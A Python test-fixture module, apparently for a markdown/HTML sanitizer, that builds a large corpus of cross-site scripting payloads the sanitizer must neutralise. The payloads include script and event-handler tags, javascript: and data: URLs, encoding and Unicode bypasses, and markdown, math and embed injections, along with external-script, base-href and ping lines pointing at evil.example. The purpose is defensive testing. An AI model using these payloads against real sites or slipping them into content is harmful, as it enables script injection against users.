"""Hostile input: what a guest author or an import might try. All of it must come out harmless (CON-01)."""

from itertools import product

RUN = "alert(1)"

ELEMENTS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<script src=//evil.example/x.js></script>", f"<script>{RUN}",
    f"<script type=module>{RUN}</script>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} />",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><g onload={RUN}></g></svg>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'", f"<img\nsrc=x\nonerror={RUN}\n>", f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>", f"<img src=x oNeRrOr={RUN}>", f"<img src='x' onerror\t=\t{RUN}>", f"<img src=javascript:{RUN}>",
    f"<img srcset=\"x 1x, javascript:{RUN} 2x\">", "<img src=x:x onerror=&#97;lert(1)>", f"<img dynsrc=javascript:{RUN}>", f"<img lowsrc=javascript:{RUN}>",
    f"<img src=`x`onerror={RUN}>", f"<img src=x style=width:expression({RUN})>", f"<image src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<object data='data:text/html,<script>{RUN}</script>'></object>", f"<embed src=javascript:{RUN}>",
    f"<applet code=x onload={RUN}></applet>", f"<frameset onload={RUN}></frameset>", f"<frame src=javascript:{RUN}>",
    f"<body onload={RUN}>", f"<html onmouseover={RUN}>", "<head><base href=//evil.example/></head>", "<base href='//evil.example/'>",
    f"<link rel=stylesheet href=javascript:{RUN}>", "<link rel=import href=//evil.example>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta charset=utf-7>", f"<style>@import 'javascript:{RUN}';</style>", f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<style><img src=x onerror={RUN}></style>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><script>{RUN}</script></template>", f"<xmp><img src=x onerror={RUN}></xmp>", f"<plaintext><script>{RUN}</script>",
    f"<title><img src=x onerror={RUN}></title>", f"<textarea><img src=x onerror={RUN}></textarea>", f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    f"<noembed><img src=x onerror={RUN}></noembed>", f"<noframes><img src=x onerror={RUN}></noframes>", f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<form action=javascript:{RUN}><button>x</button></form>", f"<form><button formaction=javascript:{RUN}>x</button></form>", f"<isindex action=javascript:{RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<input type=image src=x onerror={RUN}>", f"<button onclick={RUN}>x</button>", f"<select autofocus onfocus={RUN}></select>",
    f"<keygen autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}></textarea>", f"<video src=x onerror={RUN}></video>", f"<video><source onerror={RUN}></video>",
    f"<video poster=javascript:{RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<track onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<bgsound src=javascript:{RUN}>", f"<layer src=javascript:{RUN}></layer>", f"<ilayer src=javascript:{RUN}></ilayer>", "<xss style=behavior:url(x.htc)>",
    f"<details open ontoggle={RUN}>x</details>", f"<summary onclick={RUN}>x</summary>", f"<dialog open onclose={RUN}>x</dialog>", f"<x onclick={RUN} tabindex=1>x</x>",
    f"<x id=y contenteditable onfocus={RUN}>x</x>", f"<a onmouseover={RUN}>x</a>", f"<a href=x onclick={RUN}>x</a>", f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>", f"<a href=&#106;avascript:{RUN}>x</a>", f"<a href=\"java\tscript:{RUN}\">x</a>", f"<a href=java&#10;script:{RUN}>x</a>",
    f"<a target=_blank href=data:text/html,<script>{RUN}</script>>x</a>", "<a ping=//evil.example href=x>x</a>", f"<p style=background:url(javascript:{RUN})>x</p>",
    "<p style='position:fixed;inset:0'>x</p>", "<div style=-moz-binding:url(//evil.example/x.xml#a)>x</div>", f"<table background=javascript:{RUN}><tr><td>x</table>",
    f"<td background=javascript:{RUN}>", f"<blockquote cite=javascript:{RUN}>x</blockquote>", f"<q cite=javascript:{RUN}>x</q>", f"<del cite=javascript:{RUN}>x</del>",
    f"<!--><script>{RUN}</script>-->", f"<!--<img src='--><img src=x onerror={RUN}>'>", f"<!-- --!><script>{RUN}</script> -->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>", f"<?php echo '<script>{RUN}</script>' ?>", f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]><p>&y;</p>",
    f"</p><script>{RUN}</script><p>", f"</article></main><script>{RUN}</script>", f"</div></div></section><img src=x onerror={RUN}>", f"</textarea></title></style><script>{RUN}</script>",
    f"<a\x00href=javascript:{RUN}>x</a>", f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<img src=x\x0bonerror={RUN}>", f"<\x0cscript>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"<ſcript>{RUN}</ſcript>", f"<script>{RUN}</script>", f"<img src=x onerror=\u2028{RUN}>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "<p id=page-main name=body>x</p>", "<form id=location><input name=href></form>", "<p class='note anchor visually-hidden'>x</p>", "<a id=fn-1 href=#x>x</a>",
)  # fmt: skip

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"javascript&#x3A;{RUN}", f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript:{RUN}", f"&#0000106avascript:{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"java&#9;script:{RUN}",
    f"java&#13;script:{RUN}", f"&#1;javascript:{RUN}", f"&#32;javascript:{RUN}", f"\x01javascript:{RUN}", f"java\\script:{RUN}", f"javascript://%0a{RUN}",
    f"javascript:/*--></title></style>*/{RUN}", f"javascript:{RUN}//http://example.org", f"%6Aavascript:{RUN}", f"javascript%3A{RUN}", "vbscript:msgbox(1)",
    "VBScript:msgbox(1)", f"livescript:{RUN}", f"mocha:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>", "data:image/png;base64,AAAA", f"DATA:text/html,{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
    f"jar:javascript:{RUN}!", "file:///etc/passwd", "blob:https://example.org/x", "filesystem:https://example.org/x", "about:blank", "ws://evil.example",
    "tel:123", "ftp://evil.example/x", "intent://x#Intent;end", "ms-msdt:/id", "//evil.example/x", "\\\\\\\\evil.example", "/\\\\evil.example", "https:javascript:x",
    f"javascript\u200b:{RUN}", f"ｊavascript:{RUN}", "x\" onmouseover=\"alert(1)", "x' onmouseover='alert(1)", "x`onmouseover=`alert(1)", "x> <img src=x onerror=alert(1)>",
)  # fmt: skip

FORMS = (
    "[x](<{}>)",
    "![x](<{}>)",
    "[x]({})",
    "<{}>",
    "[x][r]\n\n[r]: <{}>",
    "![x][r]\n\n[r]: {}",
    "[![x](<{}>)](<{}>)",
    "www.example.org/{}",
)

TRICKS = (
    f'[x](/x "t\\" onmouseover={RUN} \\"")', f"[x](/x 't\" onmouseover=\"{RUN}')", f'![x" onerror="{RUN}](a.png)', f"![x' onerror='{RUN}](a.png)",
    f"![<img src=x onerror={RUN}>](a.png)", f'![x](a.png "c\\"><img src=x onerror={RUN}>")', f'![x](a.png "<script>{RUN}</script>")', f"[<script>{RUN}</script>](/x)",
    f"## <img src=x onerror={RUN}>", f'## x" onclick="{RUN}', f"## `<script>{RUN}</script>`", "## page-main", f"<h2 onclick={RUN}>x</h2>", f"<script>{RUN}</script>\n=====",
    f"```html onload={RUN}\n<script>{RUN}</script>\n```", f'```"><script>{RUN}</script>\nx\n```', f"```js\" onclick=\"{RUN}\nx\n```", f"```<img/src=x/onerror={RUN}>\nx\n```",
    f"~~~ \\\" onclick={RUN}\nx\n~~~", f"`<script>{RUN}</script>`", f"    <script>{RUN}</script>", f"```js\n</code></pre><script>{RUN}</script>\n```",
    f"```html\n<img src=x onerror={RUN}>\n```", f"```xml\n]]><script>{RUN}</script>\n```", f"```php\n?><script>{RUN}</script>\n```",
    f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | d |", f'| x" onclick="{RUN} |\n|---|\n| y |', f"|x|\n|:-:\" onclick={RUN}|\n|y|",
    f"x[^1]\n\n[^1]: <script>{RUN}</script>", f'x[^"onclick={RUN}]\n\n[^"onclick={RUN}]: y', f"x[^<b>]\n\n[^<b>]: [y](javascript:{RUN})", f"x[^1]\n\n[^1]: y\n\n    <img src=x onerror={RUN}>",
    f"- [ ] <input autofocus onfocus={RUN}>", f"- [x] x <script>{RUN}</script>", f"> [!NOTE] <script>{RUN}</script>\n> x", f'> [!TIP] " onclick="{RUN}\n> x', f"> <script>\n> {RUN}\n> </script>",
    f"Term <script>{RUN}</script>\n: <img src=x onerror={RUN}>", f":::question onclick={RUN}\nx\n:::", f'::: question" onclick="{RUN}\nx\n:::', f"::: note anchor\n<script>{RUN}</script>\n:::",
    f"::: question\nx <script>{RUN}</script>\n\n- [ ] a <img src=x onerror={RUN}>\n\n  <script>{RUN}</script>\n\n- [x] [b](javascript:{RUN})\n\n  </details><script>{RUN}</script>\n:::",
    f"::: question\n</section><script>{RUN}</script>\n\n- [ ] </summary><script>{RUN}</script>\n- [x] b\n:::", f"<details open ontoggle={RUN}>\n\n::: question\nx\n:::\n\n</details>",
    f"<http://example.org/\"onclick=\"{RUN}>", f"http://example.org/\"onmouseover=\"{RUN}", f"http://example.org/<script>{RUN}</script>", f"a@example.org\"onclick={RUN}", f"<a@example.org?subject=<script>{RUN}>",
    f"[x](https://example.org/%22onclick=%22{RUN})", f"[x](https://example.org/&quot;onclick=&quot;{RUN})", f"[x](/x#\"onclick=\"{RUN})", f"[x](a.md#\"><script>{RUN}</script>)", f"[x](<a.md\" onclick=\"{RUN}>)",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<script>{RUN}\\</script>", f"&lt;img src=x onerror={RUN}&gt;", f"<\n\nscript>{RUN}</script>",
    f"<scr\n\nipt>{RUN}</script>", f"[a]: javascript:{RUN} '\"'\n\n[a]", f"[](javascript:{RUN})", f"[\n](javascript:{RUN})", f"[x]( javascript:{RUN})", f"[x](\njavascript:{RUN}\n)", f"[x](<javascript:{RUN}> \"t\")",
    f"*<b onclick={RUN}>*x*</b>*", f"~~<s onclick={RUN}>~~x", f"**[x**](javascript:{RUN})", f"[[x](javascript:{RUN})](/y)", f"![[x](javascript:{RUN})](a.png)", f"<!-- raw HTML omitted --><script>{RUN}</script>",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\text{{<script>{RUN}</script>}}$", f"$$\n</math><script>{RUN}</script>\n$$", f"$\\style{{x}}{{y}}\\class{{a}}{{b}}\\color{{red;x:url(javascript:{RUN})}}z$",
    f"$x\" onload=\"{RUN}$", f"<math><mtext><img src=x onerror={RUN}></mtext></math> $x$", f"<span data-math-style=inline onclick={RUN}>\\href{{javascript:{RUN}}}{{x}}</span> $x$", f"```math\n\\text{{\"><script>{RUN}</script>}}\n```",
    f"[[javascript:{RUN}]]", f"[[javascript:{RUN}|x]]", f"[[x|<script>{RUN}</script>]]", f"[[x#\"onclick=\"{RUN}]]", f"![[javascript:{RUN}.png|30]]", f'![[x.png|" onerror="{RUN}]]', "![[//evil.test/x.png]]",
    f"> [!info\" onclick=\"{RUN}] x\n> y", f"> [!note]- <script>{RUN}</script>\n> y", f"> [!x]+ </summary></details><script>{RUN}</script>\n> y", f":::tip </p><script>{RUN}</script>\nx\n:::", f":::note[<img src=x onerror={RUN}>]\nx\n:::",
    f"## x {{#a onclick={RUN}}}", f"## x {{#\"onclick={RUN}}}", "## x {#page-main}", f"![x](a.png){{width=3 onerror={RUN}}}", f"![x](a.png){{width='3' style='x:{RUN}'}}", f"[x](/y){{:onclick={RUN}}}",
    f"<iframe src='https://www.youtube.com/embed/dQw4w9WgXcQ' title='<script>{RUN}</script>'>", f"<iframe src='https://www.youtube.com/embed/dQw4w9WgXcQ\"onload={RUN}'>", f"<iframe src='javascript:{RUN}//youtube.com/embed/dQw4w9WgXcQ'>",
    f'{{{{< youtube id="dQw4w9WgXcQ" title="<script>{RUN}</script>" >}}}}', f"[embed]javascript:{RUN}[/embed]", f"[embed]https://youtu.be/dQw4w9WgXcQ\"onclick={RUN}[/embed]", f"![<script>{RUN}</script>](https://youtu.be/dQw4w9WgXcQ)",
    f"a abc b\n\n*[abc]: \" onclick=\"{RUN}", f"a abc b\n\n*[abc]: <script>{RUN}</script>", f"==<script>{RUN}</script>==", "x^<b>^", f":smile\" onclick={RUN}:",
    f'<p data-sourcepos="1:1-9:9" onclick={RUN}>x</p>', f'x data-footnote-ref><script>{RUN}</script>', f'[x](/x " data-footnote-ref><script>{RUN}</script>")', f"\ufeff<script>{RUN}</script>", f"\u202e<script>{RUN}</script>",
)  # fmt: skip

VECTORS = tuple(
    dict.fromkeys(
        (*ELEMENTS, *TRICKS, *(form.replace("{}", address) for form, address in product(FORMS, ADDRESSES)))
    )
)
